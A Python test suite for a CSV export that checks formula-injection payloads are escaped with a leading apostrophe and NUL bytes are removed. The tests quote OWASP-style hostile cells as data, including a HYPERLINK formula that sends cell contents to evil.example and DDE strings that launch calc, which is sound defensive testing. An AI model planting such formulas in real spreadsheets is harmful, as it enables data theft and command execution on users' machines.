"""CSV injection: no text from an article reaches a spreadsheet as a formula, and no NUL reaches the CSV."""

from __future__ import annotations

import csv
import io
import tempfile
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st

from geomap.outputs.cells import FORMULA_STARTS, safe_cell
from geomap.outputs.table import CSV_COLUMNS, CSV_JOIN, write_csv
from geomap.records import Incident, Resolution, Source

#: What OWASP lists (https://owasp.org/www-community/attacks/CSV_Injection), written out.
OWASP = ("=", "+", "-", "@", "\t", "\r")


def test_the_issues_formulas_are_neutralised() -> None:
    assert safe_cell('=HYPERLINK("http://evil.example/?x="&A1, "click")') == (
        '\'=HYPERLINK("http://evil.example/?x="&A1, "click")'
    )
    assert safe_cell("+cmd|' /C calc'!A0") == "'+cmd|' /C calc'!A0"
    assert safe_cell("-2+3+cmd|' /C calc'!A0") == "'-2+3+cmd|' /C calc'!A0"
    assert safe_cell("@SUM(1+9)*cmd|' /C calc'!A0") == "'@SUM(1+9)*cmd|' /C calc'!A0"
    assert safe_cell("\t=1+1") == "'\t=1+1" and safe_cell("\r=1+1") == "'\n=1+1"
    assert safe_cell("a\r\nb\rc") == "a\nb\nc"  # a lone CR would end the row for a CSV reader
    assert safe_cell("  =1+1") == "'  =1+1" and safe_cell("\n=1") == "'\n=1"
    assert safe_cell("＝1+1") == "'＝1+1"  # full-width equals sign
    assert safe_cell("Le Monde") == "Le Monde" and safe_cell("a = b") == "a = b" and safe_cell("") == ""
    assert safe_cell("ti\x00tle") == "title" and safe_cell("\x00=1") == "'=1"
    assert safe_cell(-44.5) == -44.5 and safe_cell(3) == 3 and safe_cell(None) is None
    assert set(OWASP) <= set(FORMULA_STARTS)


@given(st.text())
def test_a_safe_cell_never_starts_a_formula_and_keeps_the_text(text: str) -> None:
    cell = safe_cell(text)
    assert isinstance(cell, str) and "\x00" not in cell
    assert not cell.lstrip(" \n").startswith(FORMULA_STARTS)
    plain = _plain(text)
    assert cell in (plain, "'" + plain)
    assert (cell == plain) == (not plain.lstrip(" \n").startswith(FORMULA_STARTS))


def _plain(text: str) -> str:
    """The text a cell must hold, apart from a leading apostrophe: no NUL, line breaks as LF."""
    return text.replace("\x00", "").replace("\r\n", "\n").replace("\r", "\n")


def _incident(*, title: str, outlet: str, quote: str, url: str, place_text: str, actor: str) -> Incident:
    place = Resolution(
        query=place_text,
        canonical="Fallujah",
        gazetteer_id="geonames:98182",
        lat=33.35,
        lon=-43.78,  # a negative number stays a number
        precision="locality",
        country="IQ",
        admin1="Anbar",
        source="gazetteer",
        score=1.0,
    )
    source = Source(
        article_id="a1",
        file="=evil.txt",
        title=title,
        outlet=outlet,
        url=url,
        published="2021-04-05",
        quote=quote,
        place_text=place_text,
    )
    return Incident(
        id="inc-1",
        event_type="attack",
        date="2021-04-05",
        date_precision="day",
        place_text=place_text,
        place=place,
        actor=actor,
        sources=(source,),
    )


_HOSTILE = st.one_of(
    st.text(max_size=40),
    st.tuples(st.sampled_from([*FORMULA_STARTS, " =", "\x00=", "\n+"]), st.text(max_size=20)).map("".join),
)


@settings(max_examples=150, deadline=None)
@given(
    title=_HOSTILE, outlet=_HOSTILE, quote=_HOSTILE, url=_HOSTILE, place_text=_HOSTILE, actor=_HOSTILE
)
def test_no_cell_of_the_csv_export_starts_a_formula(
    title: str, outlet: str, quote: str, url: str, place_text: str, actor: str
) -> None:
    incident = _incident(title=title, outlet=outlet, quote=quote, url=url, place_text=place_text, actor=actor)
    with tempfile.TemporaryDirectory() as tmp:
        data = write_csv([incident], Path(tmp) / "incidents.csv").read_bytes()
    assert b"\x00" not in data
    header, row = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    assert header == list(CSV_COLUMNS)
    cells = dict(zip(header, row, strict=True))
    for name, cell in cells.items():
        assert not cell.lstrip(" \n").startswith(FORMULA_STARTS) or name == "lon", (name, cell)
    assert cells["lon"] == "-43.78"
    for name, given_text in (
        ("source_titles", title),
        ("source_outlets", outlet),
        ("quotes", quote),
        ("source_urls", url),
        ("place_text", place_text),
        ("actor", actor),
    ):
        plain = _plain(given_text)
        assert cells[name] in (plain, "'" + plain), name  # the text is all there, at most one ' before it
    assert cells["source_files"] == "'=evil.txt"
    assert CSV_JOIN not in cells["source_files"]
